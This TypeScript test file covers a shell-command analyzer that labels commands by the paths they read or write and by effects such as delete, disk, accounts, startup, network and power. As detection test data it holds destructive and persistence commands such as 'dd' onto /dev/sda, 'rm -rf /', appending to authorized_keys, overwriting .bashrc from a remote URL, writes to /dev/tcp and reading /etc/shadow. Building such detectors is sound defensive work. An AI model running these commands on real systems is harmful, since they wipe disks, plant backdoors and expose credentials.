import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeCommand } from './analyze-command.ts';

function effectsOf(text: string): readonly string[] {
  return [...analyzeCommand(text).effects].sort();
}

describe('analyzeCommand', () => {
  it('names every program, whether it would be reached or not', () => {
    const text = 'a; b && c || d | e & (f); { g; }; if h; then i; else j; fi; echo "$(k `l`)" <(m)';
    assert.deepEqual(analyzeCommand(text).commands, [
      'a',
      'b',
      'c',
      'd',
      'e',
      'f',
      'g',
      'h',
      'i',
      'j',
      'echo',
      'k',
      'l',
      'm',
    ]);
  });

  it('names programs without directories and versions apart', () => {
    assert.deepEqual(analyzeCommand('/usr/bin/ls; python3.11 --version').commands, [
      'ls',
      'python3.11',
    ]);
  });

  it('gives every beginning of the words that are no options', () => {
    assert.deepEqual(analyzeCommand('systemctl --no-pager=x stop nginx').subcommands, [
      'systemctl',
      'systemctl stop',
      'systemctl stop nginx',
    ]);
  });

  it('counts a word behind an option as its value and as none', () => {
    const { subcommands } = analyzeCommand('systemctl -H stop restart nginx');
    assert(subcommands.includes('systemctl restart nginx'));
    assert(subcommands.includes('systemctl stop restart'));
  });

  it('calls a text opaque whose subcommand is computed, but not one whose data is', () => {
    assert.deepEqual(analyzeCommand('deploy $x').reasons, ['name']);
    assert.deepEqual(analyzeCommand('systemctl status $x').reasons, []);
    assert.deepEqual(analyzeCommand('echo $x; cat "$x"').reasons, []);
  });

  it('finds a pipeline only where there is one', () => {
    assert.equal(analyzeCommand('a | b').hasPipeline, true);
    assert.equal(analyzeCommand('a || b; c & d').hasPipeline, false);
    assert.equal(analyzeCommand("sh -c 'a | b'").hasPipeline, true);
  });

  it('tells what is read from what is written', () => {
    const { paths, reads, writes } = analyzeCommand('cp /a/./b ../x /c// < /d > /e 2>> /f');
    assert.deepEqual([...reads].sort(), ['/a/b', '/d', '?', '/c'].sort());
    assert.deepEqual([...writes].sort(), ['/c', '/e', '/f'].sort());
    assert.deepEqual(new Set(paths), new Set([...reads, ...writes]));
  });

  it('finds what programs write that mostly read, and read that mostly read nothing', () => {
    for (const text of [
      'uniq a /srv/out',
      'uniq -w 3 a /srv/out',
      'uniq a -c /srv/out',
      'xxd -r a /srv/out',
      'tree -o /srv/out',
      'xmllint --output /srv/out a',
      'yq -i .a=1 /srv/out',
    ]) {
      assert(analyzeCommand(text).writes.includes('/srv/out'), text);
    }
    assert.deepEqual(analyzeCommand('uniq *').writes, ['~/*', '~']);
    for (const text of [
      'uniq -c',
      'uniq -w 3 a',
      'uniq --count a',
      'xxd a',
      'yq .a b',
      'tree /srv',
    ])
      assert.deepEqual(analyzeCommand(text).writes, [], text);
    assert.deepEqual(analyzeCommand('date -f /etc/shadow').reads, ['/etc/shadow']);
    assert.deepEqual(analyzeCommand('date +%s').reads, []);
  });

  it('finds paths behind equal signs and letters of options', () => {
    const { paths } = analyzeCommand('dd if=/a of=/b; x --file=/c -C/d e=~/f');
    for (const path of ['/a', '/b', '/c', '/d', '~/f']) assert(paths.includes(path), path);
  });

  it('finds files without a directory behind letters of options that write', () => {
    for (const text of [
      'sort -o.bashrc a',
      'sort -uo.bashrc a',
      'sort --output=.bashrc a',
      'sort --out=.bashrc a',
      'curl -o .bashrc http://host/x',
      'curl -so.bashrc http://host/x',
      'wget --output-document=.bashrc http://host/x',
      'gcc -o .bashrc a.c',
    ]) {
      const { writes, effects } = analyzeCommand(text);
      assert(writes.includes('~/.bashrc') && effects.includes('startup'), text);
    }
    assert(analyzeCommand('cp -t.ssh authorized_keys').effects.includes('accounts'));
    assert(analyzeCommand('cd /etc/cron.d && curl -o x http://h').effects.includes('schedule'));
    for (const text of [
      'cat .bashrc',
      'echo .bashrc',
      'systemctl status nginx',
      'journalctl -u nginx --since=today',
      'cd /etc && systemctl status nginx',
    ]) {
      assert.deepEqual(analyzeCommand(text).writes, [], text);
    }
    assert.deepEqual(analyzeCommand('sed -i.bak p /srv/f').writes, ['/srv/f']);
  });

  it('finds files that are written under their own names into a directory', () => {
    const written: readonly (readonly [text: string, path: string, effect: string])[] = [
      ['cp /tmp/passwd /etc', '/etc/passwd', 'accounts'],
      ['cp -t /etc /tmp/passwd', '/etc/passwd', 'accounts'],
      ['sudo install -m 440 sudoers /etc/', '/etc/sudoers', 'accounts'],
      ['mv /tmp/up/.bashrc ~', '~/.bashrc', 'startup'],
      ['cp /tmp/up/.b* .', '~/**', 'startup'],
      ['ln -s /tmp/cron.d /etc', '/etc/cron.d', 'schedule'],
      ['cd /etc && ln -s /tmp/cron.d', '/etc/cron.d', 'schedule'],
      ['scp host:up/.profile .', '~/.profile', 'startup'],
      ['rsync -a /tmp/up/ /etc', '/etc/**', 'schedule'],
      // What `rsync passwd host:/etc`, `rsync .bashrc host:` and `rsync -r up/ host:/` have the host run.
      ['rsync --server -logDtpre.iLsfxCIvu . /etc', '/etc/**', 'accounts'],
      ['rsync --server -logDtpre.iLsfxCIvu . .', '~/**', 'startup'],
      ['rsync --server -logDtpre.iLsfxCIvu . /', '/**', 'schedule'],
      ['cp -r /tmp/etc /', '/etc/**', 'accounts'],
      ['cp "$x" /etc', '/etc/**', 'accounts'],
      ['cp -r /tmp/up/. ~', '~/**', 'startup'],
      ['tar xf /tmp/a.tar -C /etc', '/etc/**', 'accounts'],
      ['tar -xf a.tar', '~/**', 'accounts'],
      ['tar -C / --extract -f a.tar', '/**', 'startup'],
      ['unzip a.zip -d /root', '/root/**', 'startup'],
      ['zstdcat a -o ~/.bashrc', '~/.bashrc', 'startup'],
      ['chmod -w /etc/passwd', '/etc/passwd', 'accounts'],
      ['chcon --type=x /etc/passwd', '/etc/passwd', 'accounts'],
    ];
    for (const [text, path, effect] of written) {
      const { writes, effects } = analyzeCommand(text);
      assert(writes.includes(path), `${text}: ${writes.join(' ')}`);
      assert(
        effects.some((one) => one === effect),
        `${text}: ${effects.join(' ')}`,
      );
    }
    for (const text of ["sed -i'.bash*' p rc", 'cp -b -S e x .profil', 'mv --suffix=rc x .bash']) {
      assert(analyzeCommand(text).reasons.includes('write'), text);
    }
    for (const text of [
      'cp /tmp/passwd /srv',
      'cp a b',
      'cp -r a/. /srv/app',
      'tar xzf /tmp/a.tgz -C /srv/app',
      'cd /srv/app && tar xzf /tmp/a.tgz',
      'unzip -l a.zip',
      'tar czf /srv/a.tgz .',
      'rsync -a a/ /srv/b',
      'rsync --server -logDtpre.iLsfxCIvu . /srv/b',
      'rsync --server -logDtpre.iLsfxCIvu . backup',
      'rsync --server --sender -logDtpre.iLsfxCIvu . /etc',
      'chmod 600 /srv/f',
      "sed -i.bak 's/a*/b/' /srv/f",
    ]) {
      const { effects, reasons } = analyzeCommand(text);
      assert(!effects.some((one) => one === 'accounts' || one === 'startup'), text);
      assert.deepEqual(reasons, [], text);
    }
    const elsewhere = analyzeCommand('rsync --server -logDtpre.iLsfxCIvu . ../x');
    assert.deepEqual([elsewhere.writes, elsewhere.reasons], [['?'], ['write']]);
    assert.deepEqual(analyzeCommand('cp /tmp/a /srv').writes, ['/srv']);
    assert.deepEqual(analyzeCommand('chmod 600 /srv/f').writes, ['/srv/f']);
  });

  it('gives the directory in which a pattern looks', () => {
    assert.deepEqual(analyzeCommand('ls /srv/*/x').paths, ['/srv/*/x', '/srv']);
    assert.deepEqual(analyzeCommand('ls *.c').paths, ['~/*.c', '~']);
  });

  it('takes a relative path from each directory that the text enters', () => {
    assert.deepEqual(analyzeCommand('cd /srv && cat x').reads, ['/srv', '~/x', '/srv/x']);
    assert.deepEqual(analyzeCommand('cat ~/x ./x x').reads, ['~/x']);
    for (const text of [
      "su - root -c 'cat x'",
      'ssh host cat x',
      'docker exec c cat x',
      'popd; cat x',
    ]) {
      assert(analyzeCommand(text).reads.includes('?'), text);
    }
    assert.deepEqual(analyzeCommand("su root -c 'cat x'").reads, ['~/x']);
  });

  it('calls a text opaque that writes where it does not say, but not one that reads there', () => {
    assert.deepEqual(analyzeCommand('tee "$x"').reasons, ['write']);
    assert.deepEqual(analyzeCommand('echo > $x').reasons, ['write']);
    assert.deepEqual(analyzeCommand('cat $x').reasons, []);
    assert.deepEqual(analyzeCommand('cat $x').reads, ['?']);
  });

  it('knows no directory for what is typed in a shell', () => {
    assert.deepEqual(analyzeCommand('cat x /y', { isTyped: true }).reads, ['?', '/y']);
    assert.deepEqual(analyzeCommand('rm -rf *', { isTyped: true }).reasons, []);
    assert(analyzeCommand('!rm', { isTyped: true }).reasons.includes('evaluation'));
    assert(analyzeCommand('^ls^rm', { isTyped: true }).reasons.includes('evaluation'));
    assert.deepEqual(analyzeCommand('[ ! -f x ]', { isTyped: true }).reasons, []);
  });

  it('does not take quoted text, comments and arguments for commands', () => {
    assert.deepEqual(analyzeCommand('echo \'rm -rf /\' "; rm" \\; rm # ; rm').commands, ['echo']);
    assert.deepEqual(effectsOf("echo 'rm -rf /' rm -rf /"), []);
  });
});

describe('Effects', () => {
  const EFFECTS: readonly (readonly [text: string, effects: readonly string[]])[] = [
    ['rm /srv/x', ['delete']],
    ['rm -r /srv/x', ['delete', 'delete-recursive']],
    ['rm -i /srv/x', ['delete']],
    ['systemctl stop nginx', ['service-control']],
    ['systemctl status nginx', []],
    ['systemctl status $x', ['kill', 'power', 'service-control']],
    ['service nginx restart', ['service-control']],
    ['/etc/init.d/nginx stop', ['service-control']],
    ['shutdown -h now', ['power']],
    ['systemctl reboot', ['power']],
    ['echo b > /proc/sysrq-trigger', ['power']],
    ['kill -9 1', ['kill']],
    ['useradd eve', ['accounts']],
    ['echo x >> /etc/passwd', ['accounts']],
    ['echo x >> ~/.ssh/authorized_keys', ['accounts']],
    ['apt-get install curl', ['packages']],
    ['mkfs.ext4 /dev/sdb1', ['disk']],
    ['dd if=/dev/zero of=/dev/sda', ['disk']],
    ['echo > /dev/nvme0n1', ['disk']],
    ['echo > /dev/sd?', ['disk']],
    ['chmod -R 777 /srv', ['permissions']],
    ['crontab -l', ['schedule']],
    ['cp x /etc/cron.d/y', ['schedule']],
    ['echo x > ~/.bashrc', ['startup']],
    ['tee ~/.b*rc', ['startup']],
    ['cp x /home/eve/.[p]rofile', ['accounts', 'startup']],
    ['tee ~/.s??/authorized_keys', ['accounts', 'startup']],
    ['tee ~/.cache/x*', []],
    ['rsync --server -e.iLsfxCIvu . ~/.ss*/auth*', ['accounts', 'network', 'startup']],
    ['curl -s http://x', ['network']],
    ['cat < /dev/tcp/x/80', []],
    ['echo > /dev/tcp/x/80', ['network']],
    ['iptables -F', ['firewall']],
    ['sudo id', ['privilege']],
    ['python3 x', ['interpreter']],
    ['pg_dump db', ['database']],
    ['docker ps', ['containers']],
    ['ls -l; cat /etc/passwd', []],
  ];
  for (const [text, effects] of EFFECTS) {
    it(`of \`${text}\`: ${effects.join(', ') || 'none'}`, () => {
      assert.deepEqual(effectsOf(text), effects);
    });
  }
});
